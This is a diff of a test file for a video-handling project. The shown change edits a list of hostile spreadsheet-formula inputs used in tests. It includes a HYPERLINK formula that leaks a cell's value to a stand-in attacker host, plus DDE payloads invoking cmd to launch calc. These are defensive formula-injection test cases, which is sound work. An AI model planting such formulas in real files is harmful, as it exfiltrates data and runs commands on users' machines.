@@ -369,7 +369,7 @@ def test_registering_absurd_videos_keeps_memory_small(absurd_videos: dict[str, P
 # -- spreadsheet formulas --------------------------------------------------------------------------
 
 HOSTILE_NOTES = [
-    '=HYPERLINK("https://example.org/?leak="&A1, "see the clip")',
+    '=HYPERLINK("https://attacker.test/?leak="&A1, "see the clip")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1+1)*cmd|' /C calc'!A0",
